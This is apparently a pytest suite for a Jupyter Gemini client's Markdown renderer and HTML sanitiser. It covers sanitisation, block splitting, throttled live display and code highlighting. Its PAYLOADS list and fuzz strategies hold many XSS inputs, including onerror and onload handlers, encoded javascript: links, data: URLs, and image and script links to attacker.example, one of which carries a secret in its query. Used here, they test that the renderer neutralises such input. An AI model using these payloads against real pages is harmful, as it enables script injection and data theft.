"""Unit tests of the safe Markdown renderer and of `display.py`'s pure parts (no kernel, no sleeps).

The sanitiser is checked structurally: the produced HTML is parsed and every tag, attribute and
URL must be on the allow-list, so a payload cannot pass by being spelled differently.
"""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import FakeClock
from html_check import elements, inert_problems
from ipygemini._types import GeneratedImage, ImageEvent, ReasoningDelta, TextDelta
from ipygemini.render import (
    BlockSplitter,
    code_blocks,
    footer_bundle,
    image_bundle,
    render_markdown,
    sanitize_html,
    tail_text,
)
from ipygemini.render._live import EMPTY, MESSAGE_BYTES, LiveMarkdown, RecordingPublisher, Throttle

# --- the shared HTML checker, on render's own output (no wrappers) --------------------------------

_CODE_COLOURS = (
    r"(?:(?:color:var\(--jp-[a-z0-9-]+, #[0-9A-Fa-f]{3,6}\)|font-weight:bold|font-style:italic);?)+"
)


def assert_safe(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Inert by the shared allow-list (tests/html_check.py); highlighted code keeps only
    colours. Returns the tags found."""
    assert inert_problems(html, wrappers=()) == [], html
    found = elements(html)
    for tag, attrs in found:
        for name, value in attrs:
            if name == "style" and tag == "span":
                assert re.fullmatch(_CODE_COLOURS, value or ""), value
    return found


PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    "<script>alert(1)</script>",
    "<ScRiPt src=https://attacker.example/x.js></ScRiPt>",
    "<svg onload=alert(1)><circle r=5/></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<p onclick="alert(1)">hi</p>',
    '<details open ontoggle="alert(1)">x</details>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<!-- comment --><img src=x>",
    '<object data="https://attacker.example/x.swf"></object><embed src=x>',
    '<form action="https://attacker.example"><input name=q></form>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](//attacker.example/path)",
    "[click](/api/contents/secret.ipynb)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "![](https://attacker.example/?q=secret)",
    "![logo](http://attacker.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[![img](https://attacker.example/a.png)](https://ok.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> ![](https://attacker.example/q)",
    "$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$",
    "\\(<svg onload=alert(1)>\\)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload: str) -> None:
    html = render_markdown(payload)
    assert_safe(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitize_html_alone_neutralises_raw_html(payload: str) -> None:
    assert_safe(sanitize_html(payload))


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown("<img src=x onerror=alert(1)> and <script>alert(2)</script>")
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html


def test_javascript_link_is_not_a_link() -> None:
    for payload in ("[click](javascript:alert(1))", "[click](&#106;avascript:alert(1))"):
        tags = assert_safe(render_markdown(payload))
        assert all(tag != "a" or not dict(attrs).get("href") for tag, attrs in tags)


def test_remote_image_becomes_a_link_not_an_img() -> None:
    html = render_markdown("![chart](https://attacker.example/?q=secret)")
    tags = assert_safe(html)
    assert ("a", [("href", "https://attacker.example/?q=secret")]) in [
        (tag, [a for a in attrs if a[0] == "href"]) for tag, attrs in tags
    ]
    assert "[image: chart]" in html


def test_safe_links_survive() -> None:
    html = render_markdown("[docs](https://example.org/a?b=1) and [mail](mailto:a@example.org)")
    assert 'href="https://example.org/a?b=1"' in html
    assert 'href="mailto:a@example.org"' in html
    assert "noopener" in html


def test_relative_and_protocol_relative_links_lose_their_href() -> None:
    for payload in ("[x](/api/contents)", "[x](//attacker.example/p)", "[x](#frag)"):
        assert "href" not in render_markdown(payload)


def test_code_blocks_keep_language_and_escape_content() -> None:
    html = render_markdown("```python\nif a < b and c > d:\n    print('<b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b and c &gt; d:" in re.sub(r"</?span[^>]*>", "", html)
    assert "<b>" not in html


def test_hostile_language_class_is_dropped() -> None:
    html = render_markdown('```" onmouseover="alert(1)\nx\n```')
    assert_safe(html)
    assert "onmouseover=" not in html.replace("&quot;", '"').split("<code")[1].split(">")[0]


def test_math_stays_readable_for_mathjax() -> None:
    html = render_markdown("Euler: $e^{i\\pi} + 1 = 0$, and $a*b*c$; $$x_1 * y_2$$ and \\(a_1\\).")
    assert "$e^{i\\pi} + 1 = 0$" in html
    assert "$a*b*c$" in html  # no <em> inside the formula
    assert "$$x_1 * y_2$$" in html
    assert "\\(a_1\\)" in html
    assert "<em>" not in html


def test_dollar_amounts_are_not_math() -> None:
    html = render_markdown("It costs $5 and $10.")
    assert "math" not in html
    assert "$5 and $10" in html


def test_tables_and_lists_render() -> None:
    html = render_markdown("| a | b |\n|--:|---|\n| 1 | 2 |\n\n1. x\n2. y\n\n- [ ] z")
    assert "<table>" in html and 'style="text-align:right"' in html
    assert "<ol>" in html and "<ul>" in html
    assert_safe(html)


def test_rendering_is_deterministic() -> None:
    text = "# T\n\nSome *text* with `code` and [a](https://x.example).\n\n```py\n1\n```"
    assert render_markdown(text) == render_markdown(text)


def test_code_blocks_extracts_fences_and_indented_code() -> None:
    text = "Intro\n\n```python\nprint(1)\n```\n\nthen\n\n    x = 2\n\n~~~\nraw\n~~~\n"
    assert code_blocks(text) == [("python", "print(1)\n"), ("", "x = 2\n"), ("", "raw\n")]


MARKDOWNISH = st.lists(
    st.sampled_from(
        [
            *"ab <>\"'=()[]!:/\\&#;$*_`~-|\n\t",
            *(
                "javascript:",
                "data:",
                "<img src=x onerror=alert(1)>",
                "<script>",
                "](",
                "![",
                "```",
            ),
            *("https://x.example/", "&#106;", "<svg onload=alert(1)>", "\n\n", "# ", "1. "),
        ]
    ),
    max_size=80,
).map(lambda parts: "".join(parts))


@settings(max_examples=300, deadline=None)
@given(MARKDOWNISH)
def test_any_text_renders_to_allowed_html(text: str) -> None:
    assert_safe(render_markdown(text))


# --- block splitting -----------------------------------------------------------------------------


def split_all(chunks: list[str]) -> list[tuple[str, str]]:
    splitter = BlockSplitter()
    events = []
    for chunk in chunks:
        events.extend(splitter.feed(chunk))
    events.extend(splitter.flush())
    return [(e.kind, e.text) for e in events]


def blocks_of(text: str) -> list[str]:
    return [t for kind, t in split_all([text]) if kind == "done"]


SAMPLE = """# Title
Intro line one
line two

- a
- b

  continued item

```python
x = 1


y = 2
```
After code.
## Sub
$$
a

b
$$

    indented code

Last para"""


def test_blocks_of_a_sample() -> None:
    assert blocks_of(SAMPLE) == [
        "# Title",
        "Intro line one\nline two",
        "- a\n- b\n\n  continued item",
        "```python\nx = 1\n\n\ny = 2\n```",
        "After code.",
        "## Sub",
        "$$\na\n\nb\n$$\n\n    indented code",  # an indented line continues the block
        "Last para",
    ]


def test_every_done_follows_a_start() -> None:
    events = split_all([SAMPLE])
    kinds = [k for k, _ in events]
    assert kinds == ["start", "done"] * (len(kinds) // 2)


def test_blocks_keep_every_line_in_order() -> None:
    lines = [line for line in SAMPLE.split("\n") if line.strip()]
    got = [line for block in blocks_of(SAMPLE) for line in block.split("\n") if line.strip()]
    assert got == lines


def test_fence_interrupting_a_paragraph_starts_a_block_and_closing_fence_ends_it() -> None:
    assert blocks_of("Look:\n```\ncode\n```\nAfter") == ["Look:", "```\ncode\n```", "After"]


def test_indented_fence_in_a_list_item_stays_in_the_list() -> None:
    text = "1. step\n\n   ```sh\n   ls\n\n   pwd\n   ```\n2. next"
    assert blocks_of(text) == [text]


def test_unclosed_fence_is_finished_at_the_end() -> None:
    assert blocks_of("```py\nx = 1\n\n\ny") == ["```py\nx = 1\n\n\ny"]


def test_tilde_fence_and_longer_closing_fence() -> None:
    assert blocks_of("~~~\na\n\n```\nb\n~~~~\n\nc") == ["~~~\na\n\n```\nb\n~~~~", "c"]


def test_whitespace_only_text_makes_no_block() -> None:
    assert split_all(["\n\n  \n", "\t\n"]) == []


def test_without_split_the_whole_text_is_one_block() -> None:
    splitter = BlockSplitter(split=False)
    events = splitter.feed("# a\n\nb\n```\nc\n```\n\nd") + splitter.flush()
    assert [(e.kind, e.text) for e in events] == [
        ("start", ""),
        ("done", "# a\n\nb\n```\nc\n```\n\nd"),
    ]


@st.composite
def chunked(draw: st.DrawFn) -> tuple[str, list[str]]:
    pieces = draw(
        st.lists(
            st.sampled_from(
                [
                    *("word ", "\n", "\n\n", "  ", "```py\n", "```\n", "# h\n", "- item\n", "$$\n"),
                    *("~~~\n", "    x\n", "\t", "text", "1. a\n", "`", "$", "#"),
                ]
            ),
            max_size=40,
        )
    )
    text = "".join(pieces)
    cuts = sorted(draw(st.sets(st.integers(1, max(1, len(text) - 1)), max_size=30)))
    cuts = [c for c in cuts if 0 < c < len(text)]
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    return text, chunks


@settings(max_examples=400, deadline=None)
@given(chunked())
def test_splitting_does_not_depend_on_chunking(case: tuple[str, list[str]]) -> None:
    text, chunks = case
    assert split_all(chunks) == split_all([text])
    assert split_all(list(text)) == split_all([text])


def test_preview_is_bounded_and_keeps_the_fence_opener() -> None:
    splitter = BlockSplitter()
    splitter.feed("```python\n")
    for i in range(5000):
        splitter.feed(f"line_{i} = {i}\n")
    preview = splitter.preview(500)
    assert preview.startswith("```python\n…\n")
    assert len(preview) < 600
    assert preview.rstrip().endswith("line_4999 = 4999")
    html = render_markdown(preview)
    assert html.startswith('<pre><code class="language-python">')


def test_preview_of_a_long_paragraph_is_its_end() -> None:
    splitter = BlockSplitter()
    for _ in range(1000):
        splitter.feed("word ")
    preview = splitter.preview(200)
    assert preview.startswith("… ") and len(preview) <= 205
    assert splitter.tail_chars == 5000


def test_tail_text() -> None:
    assert tail_text(["ab", "cd"], 4, 10) == "abcd"
    assert tail_text(["alpha beta ", "gamma"], 16, 9) == "… gamma"


# --- throttle and the live view -------------------------------------------------------------------


def test_throttle_allows_one_render_per_interval() -> None:
    clock = FakeClock(1000.0)
    throttle = Throttle(0.05, clock)
    assert throttle.ready()
    assert not throttle.ready()
    clock.advance(0.04)
    assert not throttle.ready()
    clock.advance(0.01)
    assert throttle.ready()
    clock.advance(10)
    assert throttle.ready()


def live_view(clock: FakeClock, **options: Any) -> tuple[LiveMarkdown, RecordingPublisher]:
    publisher = RecordingPublisher()
    return LiveMarkdown(publisher, clock=clock, interval=0.05, **options), publisher


ANSWER = (
    "# Plan\n\nFirst paragraph with **bold** text.\n\n- one\n- two\n\n```python\nprint('hi')\n\n"
    "x = 1\n```\n\nLast paragraph <img src=x onerror=alert(1)>."
)


def feed_chunks(view: LiveMarkdown, clock: FakeClock, text: str, size: int, step: float) -> None:
    for i in range(0, len(text), size):
        view.text(text[i : i + size])
        clock.advance(step)


def test_updates_are_throttled_by_time() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock)
    text = "word " * 2000  # one long paragraph, 2000 chunks
    for i in range(0, len(text), 5):
        view.text(text[i : i + 5])
        clock.advance(0.001)  # 2 s in all
    view.close()
    updates = [m for m in publisher.messages if m[0] == "update"]
    assert view.renders <= 2.0 / 0.05 + 1
    assert len(updates) <= view.renders + 1  # plus the finished block into its handle


def test_no_live_updates_when_all_chunks_arrive_at_once() -> None:
    clock = FakeClock(1000.0)
    view, _ = live_view(clock)
    feed_chunks(view, clock, ANSWER, 3, 0.0)
    assert view.renders == 1  # the first chunk; the clock never moved after it


def test_live_handles_start_empty_and_give_way_to_one_output() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock)
    view.reasoning("Let me think. ")
    clock.advance(0.1)
    view.reasoning("More thought.")
    clock.advance(0.1)
    feed_chunks(view, clock, ANSWER, 4, 0.02)
    view.show({"text/html": "<div>footer</div>", "text/plain": "— footer"})
    final = view.finish()
    first = {d: data for kind, data, d in publisher.messages if kind == "display" and d}
    assert first and all(data == EMPTY for data in first.values())  # nbval compares nothing
    assert [kind for kind, _, _ in publisher.messages[-2:]] == ["clear", "display"]
    assert publisher.final == [final] == publisher.displayed  # saved == what nbval records
    assert any("<details open" in d.get("text/html", "") for _, d, _ in publisher.messages)
    assert final["text/plain"].endswith("— footer") and "Let me think." in final["text/plain"]
    assert inert_problems(final["text/html"]) == []  # with the folded thinking's wrappers


def test_live_traffic_stays_within_four_times_the_final_output() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock)
    text = "".join(f"Paragraph {i}: " + "word " * 60 + "\n\n" for i in range(60))
    feed_chunks(view, clock, text, 12, 0.004)  # 12-character chunks at 250 a second
    final = view.finish()

    def cost(data: dict[str, str]) -> int:
        return MESSAGE_BYTES + sum(len(v) for v in data.values())

    assert sum(cost(data) for _, data, _ in publisher.messages) <= 4 * cost(final)
    assert view.renders > 20  # still live
    assert len(view.handles) <= 60 / 3  # consecutive blocks share a handle


def test_a_cell_that_printed_keeps_its_outputs_and_the_handles_are_emptied() -> None:
    view, publisher = live_view(FakeClock(1000.0))
    view.text("Hello.\n\nWorld.")
    final = view.finish(clear=False)
    assert not [m for m in publisher.messages if m[0] == "clear"]
    assert publisher.final[-1] == final
    assert all(data == EMPTY for data in publisher.final[:-1])


def final_outputs(view: LiveMarkdown, publisher: RecordingPublisher) -> list[dict[str, str]]:
    view.finish()
    return publisher.final


@settings(max_examples=200, deadline=None)
@given(
    st.integers(1, 40),
    st.lists(st.floats(0, 0.2), min_size=1, max_size=20),
    st.booleans(),
)
def test_streamed_final_output_equals_the_non_streamed_one(
    size: int, steps: list[float], thinking: bool
) -> None:
    clock = FakeClock(1000.0)
    live, live_pub = live_view(clock)
    still, still_pub = live_view(FakeClock(1000.0), live=False)
    image = GeneratedImage(data=b"\x89PNG\r\n\x1a\n" + b"\0" * 16, mime_type="image/png")
    if thinking:
        live.reasoning("Thinking hard. ")
        still.reasoning("Thinking hard. ")
    for i in range(0, len(ANSWER), size):
        live.text(ANSWER[i : i + size])
        clock.advance(steps[(i // size) % len(steps)])
        if i == size * 3:
            live.image(image)
    still.text(ANSWER[: size * 3 + size])
    still.image(image)
    still.text(ANSWER[size * 3 + size :])
    assert final_outputs(live, live_pub) == final_outputs(still, still_pub)
    assert len(live_pub.final) == 1 and live_pub.displayed == live_pub.final
    assert still_pub.messages == [("display", still_pub.final[0], None)]  # shown once, directly


def test_final_output_is_rendered_markdown_with_plain_alternative() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock, live=False)
    view.text(ANSWER)
    [output] = final_outputs(view, publisher)
    assert output["text/plain"] == "\n\n".join(
        [
            "# Plan",
            "First paragraph with **bold** text.",
            "- one\n- two",
            "```python\nprint('hi')\n\nx = 1\n```",
            "Last paragraph <img src=x onerror=alert(1)>.",
        ]
    )
    assert_safe(output["text/html"])
    assert output["text/html"].startswith("<h1>Plan</h1>\n")


def test_thinking_is_folded_once_the_answer_starts() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock)
    view.reasoning("Step 1. Step 2.")
    clock.advance(1)
    view.reasoning(" Step 3.")
    thinking_updates = [m for m in publisher.messages if m[0] == "update"]
    assert "<details open" in thinking_updates[-1][1]["text/html"]
    view.text("Answer.")
    [output] = final_outputs(view, publisher)
    assert output["text/html"].startswith("<details style")  # folded: no "open"
    assert "Step 1. Step 2. Step 3." in output["text/plain"]
    assert output["text/plain"].endswith("\n\nAnswer.")


def test_images_split_the_text_and_show_from_bytes() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock)
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 8 + (64).to_bytes(4, "big") + (48).to_bytes(4, "big")
    image = GeneratedImage(data=png)
    view.text("Here it is:")
    view.image(image)
    view.text("Nice?")
    [output] = final_outputs(view, publisher)
    assert output["text/plain"] == f"Here it is:\n\n{image!r}\n\nNice?"
    html = output["text/html"]
    src = "data:image/png;base64," + base64.b64encode(png).decode()
    assert html.index("Here it is:") < html.index(src) < html.index("Nice?")
    assert_safe(html.replace(f'<img src="{src}" alt="generated image">', ""))


def test_remote_image_is_a_link_only() -> None:
    bundle = image_bundle(GeneratedImage(data=None, mime_type="", url="https://attacker.example/q"))
    assert bundle["text/plain"] == "[image: https://attacker.example/q]"
    assert_safe(bundle["text/html"])
    assert 'href="https://attacker.example/q"' in bundle["text/html"]


def test_live_only_view_keeps_no_answer_text() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock, final=False, fmt="json")
    feed_chunks(view, clock, '{"a": 1,\n\n "b": [1, 2]}', 3, 0.06)
    assert view.renders > 1
    assert final_outputs(view, publisher) == [{"text/html": "", "text/plain": ""}]


def test_text_format_is_escaped_text_in_the_output() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock, fmt="text")
    feed_chunks(view, clock, "a <b>\n\nc", 2, 0.06)
    live = [data for kind, data, _ in publisher.messages if kind == "update"]
    assert live and all(d.get("text/html", "<pre>").startswith("<pre>") for d in live)
    [output] = final_outputs(view, publisher)
    assert output == {"text/html": "<pre>a &lt;b&gt;</pre><pre>c</pre>", "text/plain": "a <b>\n\nc"}


def test_events_of_other_choices_are_ignored_by_the_live_view() -> None:
    clock = FakeClock(1000.0)
    view, publisher = live_view(clock, live=False)
    view.feed(TextDelta("first", 0))
    view.feed(TextDelta("second", 1))
    view.feed(ReasoningDelta("hmm", 1))
    view.feed(ImageEvent(GeneratedImage(data=b"x"), 1))
    assert final_outputs(view, publisher) == [
        {"text/html": "<p>first</p>\n", "text/plain": "first"}
    ]


def test_a_finished_reply_replays_its_own_events_images_where_they_came() -> None:
    from ipygemini._types import FinishEvent, Reply, Usage, UsageEvent

    reply = Reply(usage=Usage(1, 2, 3))
    choice = reply.choices[0]
    image = GeneratedImage(data=b"\x89PNG\r\n\x1a\n")
    choice._text.append("Before ")
    choice.images.append(image)  # as the client adds one that arrived mid-answer
    choice._text.append("after.")
    choice.finish_reason = "stop"
    assert reply.events() == [
        TextDelta("Before "),
        ImageEvent(image),
        TextDelta("after."),
        FinishEvent("stop"),
        UsageEvent(Usage(1, 2, 3)),
    ]
    given_whole = Reply()
    given_whole.choices[0].images = [image]  # images with no known place come after the text
    given_whole.choices[0]._text.append("Text.")
    assert [e.type for e in given_whole.events()] == ["text", "image"]


def test_footer() -> None:
    from ipygemini._types import Reply, Usage

    reply = Reply(model="gemini-x", usage=Usage(3, 4, 7))
    reply.choices[0].finish_reason = "stop"
    assert footer_bundle(reply, model="m", seconds=1.234)["text/plain"] == (
        "— gemini-x · 7 tokens · 1.2 s"
    )
    reply.interrupted = True
    footer = footer_bundle(reply, model="m", seconds=0.5, offline=True)
    assert footer["text/plain"] == "— gemini-x · 7 tokens · 0.5 s · interrupted · offline"
    evil = Reply(model="<img src=x onerror=alert(1)>")
    html = footer_bundle(evil, model="m", seconds=0)["text/html"]
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


# --- code highlighting -------------------------------------------------------------------------


def test_code_blocks_are_highlighted_with_inline_colours_the_sanitizer_keeps() -> None:
    html = render_markdown('```python\ndef f():\n    return "<b>x</b>"  # note\n```')
    assert html.startswith('<pre><code class="language-python"><span style="')
    assert "font-weight:bold" in html and "color:var(--jp-mirror-editor-keyword-color, #" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<b>" not in html
    styles = re.findall(r'style="([^"]*)"', html)
    properties = {part.split(":")[0] for style in styles for part in style.split(";") if part}
    assert properties <= {"color", "font-weight", "font-style"}
    assert sanitize_html(html) == html  # nothing the sanitizer would drop


def test_token_colours_follow_jupyterlab_editor_variables_with_light_fallbacks() -> None:
    # the theme decides the colour (Lab Light / Dark); a page without Lab's variables gets the
    # light fallback; no colour is inlined on its own (pygments' light palette made dark unreadable)
    code = '```python\n@cache\ndef f(x: int) -> str:\n    """Doc."""\n    return f"{x!r}\\n" + 1  # c\n```'
    html = render_markdown(code)
    colours = re.findall(r"color:([^;\"]*)", html)
    assert len(set(colours)) >= 6, colours
    for colour in colours:
        assert re.fullmatch(r"var\(--jp-[a-z0-9-]+-color[0-9]?, #[0-9a-f]{3,6}\)", colour), colour
    assert "var(--jp-mirror-editor-string-color, #ba2121)" in html
    assert "var(--jp-content-font-color2, #757575);font-style:italic" in html  # the comment


def test_unknown_or_missing_language_stays_plain() -> None:
    for fence in ("```nosuchlanguage\nx < y\n```", "```\nx < y\n```"):
        html = render_markdown(fence)
        assert "<span" not in html and "x &lt; y" in html


def test_style_is_only_kept_for_colours() -> None:
    hostile = '<span style="color:red;position:fixed;background:url(http://x/y)">a</span>'
    assert sanitize_html(hostile) == '<span style="color:red">a</span>'


def test_footer_carries_the_reply_notes() -> None:
    from ipygemini._types import Reply
    from ipygemini.render import footer_bundle

    reply = Reply()
    reply.note("asked for 2 answers, the gateway returned 1")
    reply.note("<b>odd</b> note")
    bundle = footer_bundle(reply, model="m", seconds=1.0)
    assert "note: asked for 2 answers, the gateway returned 1" in bundle["text/plain"]
    assert "note: asked for 2 answers, the gateway returned 1" in bundle["text/html"]
    assert "<b>" not in bundle["text/html"] and "&lt;b&gt;odd" in bundle["text/html"]
